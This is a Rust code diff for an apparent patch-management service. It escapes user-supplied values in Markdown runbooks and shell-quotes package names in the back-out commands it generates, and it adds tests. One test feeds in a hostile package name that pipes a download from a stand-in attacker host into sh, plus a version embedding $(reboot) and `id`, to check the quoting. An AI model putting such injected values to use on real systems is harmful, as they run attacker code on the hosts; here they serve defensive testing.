@@ -12,13 +12,71 @@
 
 use crate::{App, AppError, Caller, RequestCtx, fmt_ts};
 use patchbay_core::auth::Action;
+use patchbay_core::names::is_unsafe_char;
 use patchbay_proto::api::{
     BackOutStep, ChangeApproval, ChangePatch, ChangeRecordOut, ChangeSummaryOut, LessonOut,
     PlanRequest,
 };
+use patchbay_proto::error::ErrorCode;
 use serde_json::json;
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
+
+/// Longest lesson: 16 KiB is several pages of text, and a lesson is shown in
+/// every runbook of its change.
+pub const MAX_LESSON_BYTES: usize = 16 * 1024;
+
+/// A value of someone else's making (a reason, a note, an owner, a token name,
+/// a package) as Markdown text that stays text: characters Markdown would act
+/// on are backslash-escaped and line breaks become spaces, so the value cannot
+/// start a heading, a table row, a list, a link, HTML or code, nor end the
+/// table cell it is in.
+pub fn md_text(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '&' | '#' | '!' | '~' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '\n' | '\r' | '\t' => out.push(' '),
+            c if is_unsafe_char(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// A command for a Markdown table cell, inside a code span: only the `|` that
+/// would end the cell needs escaping (GFM), and line breaks become spaces.
+fn md_code(s: &str) -> String {
+    s.replace('|', "\\|").replace(['\n', '\r', '`'], " ")
+}
+
+/// A multi-line lesson as the continuation of a Markdown list item: each line
+/// escaped ([`md_text`]; a leading ASCII punctuation character and the `.` or
+/// `)` after leading digits are escaped too, leading blanks dropped) and
+/// indented under the item, with hard line breaks between lines. No line can
+/// open a heading, a table, a list, a quote, a code block or HTML.
+pub fn md_lesson(text: &str) -> String {
+    let lines: Vec<String> = text
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty())
+        .map(|l| {
+            let mut e = md_text(l);
+            if e.starts_with(|c: char| c.is_ascii_punctuation() && c != '\\') {
+                e.insert(0, '\\');
+            }
+            let digits = e.bytes().take_while(u8::is_ascii_digit).count();
+            if digits > 0 && matches!(e.as_bytes().get(digits), Some(b'.' | b')')) {
+                e.insert(digits, '\\');
+            }
+            e
+        })
+        .collect();
+    lines.join("  \n  ")
+}
 
 fn lesson_out(l: &patchbay_store::LessonRow) -> LessonOut {
     LessonOut {
@@ -30,15 +88,40 @@ fn lesson_out(l: &patchbay_store::LessonRow) -> LessonOut {
     }
 }
 
-/// The back-out command for one package, by package format.
-fn back_out_command(format: &str, package: &str, version: &str) -> String {
+/// One word for a POSIX shell: `value` unchanged when it is made of safe
+/// characters only, otherwise single-quoted (by `shlex`, the quoting of
+/// Python's `shlex.quote`). Package names and versions are held to their
+/// ecosystem's rules at check-in, but a command shown to people for pasting
+/// must be safe whatever the database holds (rows from before those rules,
+/// imports). A NUL cannot be passed in an argument at all and is dropped.
+pub fn shell_word(value: &str) -> String {
+    let v = value.replace('\0', "");
+    shlex::try_quote(&v)
+        .map(|q| q.into_owned())
+        .unwrap_or_else(|_| "''".to_string())
+}
+
+/// The back-out command for one package, by package format; every value from
+/// the database is one quoted shell word.
+pub fn back_out_command(format: &str, package: &str, version: &str) -> String {
+    // Quoting keeps a word one word, but a line break inside it would still
+    // split what people paste into lines (and end the `# or:` comment): no
+    // command for such a value (check-ins and imports refuse them).
+    if package.chars().chain(version.chars()).any(is_unsafe_char) {
+        return "# no command: the stored package name or version contains control characters; \
+                check the asset's inventory"
+            .to_string();
+    }
     match format {
         "rpm" => format!(
-            "dnf -y install {package}-{version}  # or: zypper install --oldpackage {package}={version}"
+            "dnf -y install {}  # or: zypper install --oldpackage {}",
+            shell_word(&format!("{package}-{version}")),
+            shell_word(&format!("{package}={version}"))
         ),
-        "apk" => format!("apk add {package}={version}"),
+        "apk" => format!("apk add {}", shell_word(&format!("{package}={version}"))),
         _ => format!(
-            "apt-get install -y --allow-downgrades -o Dpkg::Options::=--force-confold {package}={version}"
+            "apt-get install -y --allow-downgrades -o Dpkg::Options::=--force-confold {}",
+            shell_word(&format!("{package}={version}"))
         ),
     }
 }
@@ -319,9 +402,28 @@ impl App {
         ctx: &RequestCtx,
     ) -> Result<LessonOut, AppError> {
         self.require(caller, Action::WriteAssets, ctx).await?;
+        let text = text.replace("\r\n", "\n");
         let text = text.trim();
         if text.is_empty() {
             return Err(AppError::invalid("text: a lesson needs text"));
+        }
+        if text.len() > MAX_LESSON_BYTES {
+            return Err(AppError::new(
+                ErrorCode::PayloadTooLarge,
+                format!(
+                    "text: a lesson is at most {MAX_LESSON_BYTES} bytes (16 KiB), this one is {}",
+                    text.len()
+                ),
+            ));
+        }
+        if let Some(c) = text
+            .chars()
+            .find(|&c| c != '\n' && c != '\t' && is_unsafe_char(c))
+        {
+            return Err(AppError::invalid(format!(
+                "text: contains the control character {c:?}; a lesson may hold line breaks and tabs, \
+                 but no other control, bidirectional or zero-width characters"
+            )));
         }
         let id = id.trim().to_ascii_uppercase();
         let mut tx = self.store.write().await?;
@@ -440,22 +542,22 @@ pub fn runbook_markdown(
     let mut s = String::new();
     let _ = writeln!(s, "# Runbook {} — {}\n", c.id, c.deployment);
     let _ = writeln!(s, "**Risk:** {}.  ", c.risk);
-    let _ = writeln!(s, "**Why:** {}.  ", c.reason);
+    let _ = writeln!(s, "**Why:** {}.  ", md_text(&c.reason));
     let _ = writeln!(s, "**Status:** {}.\n", c.outcome);
 
     s.push_str("## Roles\n\n| Role | Who | Does |\n|---|---|---|\n");
     let _ = writeln!(
         s,
         "| Change approver | {} | approves the change, each ring that needs approval and any blackout entry; never the change's creator ({}) |",
-        join_or(approvers.iter().cloned(), "(an approver token)"),
-        c.created_by
+        join_or(approvers.iter().map(|a| md_text(a)), "(an approver token)"),
+        md_text(&c.created_by)
     );
     s.push_str("| NOC operator | the operator on shift | starts the rollout, watches the gates, pauses, aborts or rolls back (`patchbay deployments`, `patchbay plan preview`) |\n");
     let _ = writeln!(
         s,
         "| Asset owners | {} | confirm their services after their window; receive escalations for their assets |",
         join_or(
-            owners.iter().cloned(),
+            owners.iter().map(|o| md_text(o)),
             "(no owner recorded: set one with `patchbay assets set`)"
         )
     );
@@ -474,17 +576,19 @@ pub fn runbook_markdown(
         let _ = writeln!(
             s,
             "| {} | {} | {} | {} | {} |",
-            w.asset,
-            w.ring.as_deref().unwrap_or("-"),
-            w.window.as_deref().unwrap_or("-"),
-            w.planned.as_deref().unwrap_or("not planned"),
-            w.unplanned
-                .clone()
-                .or_else(|| (!w.enters_blackouts.is_empty()).then(|| format!(
-                    "enters blackout {} (approved)",
-                    w.enters_blackouts.join(", ")
-                )))
-                .unwrap_or_default()
+            md_text(&w.asset),
+            md_text(w.ring.as_deref().unwrap_or("-")),
+            md_text(w.window.as_deref().unwrap_or("-")),
+            md_text(w.planned.as_deref().unwrap_or("not planned")),
+            md_text(
+                &w.unplanned
+                    .clone()
+                    .or_else(|| (!w.enters_blackouts.is_empty()).then(|| format!(
+                        "enters blackout {} (approved)",
+                        w.enters_blackouts.join(", ")
+                    )))
+                    .unwrap_or_default()
+            )
         );
     }
     s.push('\n');
@@ -496,7 +600,10 @@ pub fn runbook_markdown(
         let _ = writeln!(
             s,
             "{n}. Ring **{}** ({} asset(s)) from {}: the agents record the rollback plan and the health baseline, apply the exact versions, run the health checks; then soak {} before the next ring.",
-            r.ring, r.assets, r.earliest, r.soak
+            md_text(&r.ring),
+            r.assets,
+            r.earliest,
+            r.soak
         );
         n += 1;
     }
@@ -517,12 +624,12 @@ pub fn runbook_markdown(
     let _ = writeln!(
         s,
         "2. Asset owners: {}.",
-        join_or(owners.iter().cloned(), "(none recorded)")
+        join_or(owners.iter().map(|o| md_text(o)), "(none recorded)")
     );
     let _ = writeln!(
         s,
         "3. Change approver: {}.",
-        join_or(approvers.iter().cloned(), "(none)")
+        join_or(approvers.iter().map(|a| md_text(a)), "(none)")
     );
     s.push_str(
         "4. Security lead: decides on abort versus exception (`patchbay exceptions add`).\n\n",
@@ -535,7 +642,11 @@ pub fn runbook_markdown(
         let _ = writeln!(
             s,
             "| {} | {} | {} | {} | `{}` |",
-            b.asset, b.package, b.installed_version, b.target_version, b.command
+            md_text(&b.asset),
+            md_text(&b.package),
+            md_text(&b.installed_version),
+            md_text(&b.target_version),
+            md_code(&b.command)
         );
     }
     s.push('\n');
@@ -548,7 +659,10 @@ pub fn runbook_markdown(
         let _ = writeln!(
             s,
             "- {} by {} at {}: {}",
-            a.subject, a.approver, a.at, a.note
+            md_text(&a.subject),
+            md_text(&a.approver),
+            a.at,
+            md_text(&a.note)
         );
     }
     if !c.approvals.is_empty() {
@@ -560,39 +674,92 @@ pub fn runbook_markdown(
         s.push_str("None yet.\n");
     }
     for l in &c.lessons {
-        let _ = writeln!(s, "- {} ({}): {}", l.at, l.author, l.text);
+        let _ = writeln!(
+            s,
+            "- {} ({}): {}",
+            l.at,
+            md_text(&l.author),
+            md_lesson(&l.text)
+        );
     }
     s
 }
 
 /// The small Markdown subset the runbook uses, as HTML: headings, tables,
-/// numbered and bulleted lists, paragraphs, `code` and **bold**.
+/// numbered and bulleted lists (with indented continuation lines), paragraphs,
+/// `code`, **bold** and backslash escapes. Text is HTML-escaped.
 pub fn markdown_to_html(md: &str) -> String {
+    fn push_esc(out: &mut String, c: char) {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            c => out.push(c),
+        }
+    }
     fn inline(s: &str) -> String {
-        let e = crate::reports::esc(s);
+        let chars: Vec<char> = s.chars().collect();
         let mut out = String::new();
-        let mut code = false;
-        for (i, part) in e.split('`').enumerate() {
-            if i > 0 {
-                out.push_str(if code { "</code>" } else { "<code>" });
-                code = !code;
-            }
-            let mut bold = false;
-            for (j, p) in part.split("**").enumerate() {
-                if j > 0 {
+        let (mut code, mut bold) = (false, false);
+        let mut i = 0;
+        while i < chars.len() {
+            let c = chars[i];
+            let next = chars.get(i + 1).copied();
+            match (c, next) {
+                // In a code span only the table's `\|` is an escape (GFM).
+                ('\\', Some(n)) if n.is_ascii_punctuation() && (!code || n == '|') => {
+                    push_esc(&mut out, n);
+                    i += 2;
+                }
+                ('`', _) => {
+                    out.push_str(if code { "</code>" } else { "<code>" });
+                    code = !code;
+                    i += 1;
+                }
+                ('*', Some('*')) if !code => {
                     out.push_str(if bold { "</strong>" } else { "<strong>" });
                     bold = !bold;
+                    i += 2;
                 }
-                out.push_str(p);
-            }
-            if bold {
-                out.push_str("</strong>");
+                (c, _) => {
+                    push_esc(&mut out, c);
+                    i += 1;
+                }
             }
         }
         if code {
             out.push_str("</code>");
         }
+        if bold {
+            out.push_str("</strong>");
+        }
         out
+    }
+    /// The cells of a table row, split at the `|` that are not escaped.
+    fn cells(row: &str) -> Vec<String> {
+        let mut cells = vec![String::new()];
+        let mut it = row.trim().chars();
+        while let Some(c) = it.next() {
+            match c {
+                '\\' => {
+                    let last = cells.last_mut().expect("one cell");
+                    last.push('\\');
+                    if let Some(n) = it.next() {
+                        last.push(n);
+                    }
+                }
+                '|' => cells.push(String::new()),
+                c => cells.last_mut().expect("one cell").push(c),
+            }
+        }
+        if cells.first().is_some_and(|c| c.trim().is_empty()) {
+            cells.remove(0);
+        }
+        if cells.last().is_some_and(|c| c.trim().is_empty()) {
+            cells.pop();
+        }
+        cells.into_iter().map(|c| c.trim().to_string()).collect()
     }
     let mut out = String::new();
     let mut list: Option<&str> = None;
@@ -605,6 +772,16 @@ pub fn markdown_to_html(md: &str) -> String {
     let mut in_table = false;
     for line in md.lines() {
         let t = line.trim_end();
+        // An indented line under a list item continues it.
+        if list.is_some()
+            && line.starts_with("  ")
+            && !t.trim().is_empty()
+            && out.ends_with("</li>")
+        {
+            out.truncate(out.len() - "</li>".len());
+            let _ = write!(out, "<br>{}</li>", inline(t.trim()));
+            continue;
+        }
         if t.starts_with('|') {
             close_list(&mut out, &mut list);
             if !in_table {
@@ -612,13 +789,13 @@ pub fn markdown_to_html(md: &str) -> String {
                 in_table = true;
                 table_head = true;
             }
-            let cells: Vec<&str> = t.trim_matches('|').split('|').map(str::trim).collect();
+            let cells = cells(t);
             if cells.iter().all(|c| c.chars().all(|ch| ch == '-')) {
                 continue;
             }
             let tag = if table_head { "th" } else { "td" };
             out.push_str("<tr>");
-            for c in cells {
+            for c in &cells {
                 let _ = write!(out, "<{tag}>{}</{tag}>", inline(c));
             }
             out.push_str("</tr>");
@@ -665,4 +842,67 @@ pub fn markdown_to_html(md: &str) -> String {
     }
     close_list(&mut out, &mut list);
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Security issue, hole 4: whatever the database holds, a back-out command
+    /// is the command plus the package pin as exactly one shell word.
+    #[test]
+    fn back_out_commands_quote_shell_metacharacters() {
+        let name = "libssl3;curl http://evil.example/x|sh;#";
+        let version = "3.0.17-1$(reboot)`id`'\"\\ ~{a,b}*";
+        for (fmt, program, pin) in [
+            ("deb", "apt-get", format!("{name}={version}")),
+            ("apk", "apk", format!("{name}={version}")),
+            ("rpm", "dnf", format!("{name}-{version}")),
+        ] {
+            let cmd = back_out_command(fmt, name, version);
+            let words = shlex::split(&cmd).unwrap_or_else(|| panic!("{cmd}"));
+            assert_eq!(words[0], program, "{cmd}");
+            let i = words
+                .iter()
+                .position(|w| w == &pin)
+                .expect("the pin is one word");
+            assert!(words[..i].iter().all(|w| !w.contains("curl")), "{cmd}");
+            // A real POSIX shell agrees: printf shows each argument on its own
+            // line, and nothing of the value runs.
+            let probe = cmd.replacen(program, "printf '%s\\n'", 1);
+            let probe = probe.split("  # or:").next().unwrap();
+            let out = std::process::Command::new("/bin/sh")
+                .args(["-c", probe])
+                .output()
+                .expect("/bin/sh");
+            assert!(out.status.success(), "{probe}");
+            let printed = String::from_utf8(out.stdout).unwrap();
+            assert!(printed.ends_with(&format!("{pin}\n")), "{printed:?}");
+        }
+        // Plain values stay readable.
+        assert_eq!(
+            back_out_command("apk", "musl", "1.2.4-r2"),
+            "apk add 'musl=1.2.4-r2'"
+        );
+        assert_eq!(shell_word("nul\0byte"), "nulbyte");
+        // A line break would split a pasted command: no command at all.
+        let cmd = back_out_command("rpm", "x", "1\nreboot");
+        assert!(cmd.starts_with("# no command"), "{cmd}");
+        assert!(!cmd.contains('\n'));
+    }
+
+    #[test]
+    fn markdown_values_stay_text() {
+        assert_eq!(md_text("a|b\n## c"), "a\\|b \\#\\# c");
+        assert_eq!(
+            md_lesson("ok\n## Approvals\n| x |\n1. y\n   > z"),
+            "ok  \n  \\#\\# Approvals  \n  \\| x \\|  \n  1\\. y  \n  \\> z"
+        );
+        let html =
+            markdown_to_html("- a  \n  \\#\\# b\n\n| `x \\| y` | \\| |\n|---|---|\n| 1 | 2 |\n");
+        assert_eq!(
+            html,
+            "<ul><li>a<br>## b</li></ul><table><tr><th><code>x | y</code></th><th>|</th></tr><tr><td>1</td><td>2</td></tr></table>"
+        );
+    }
 }
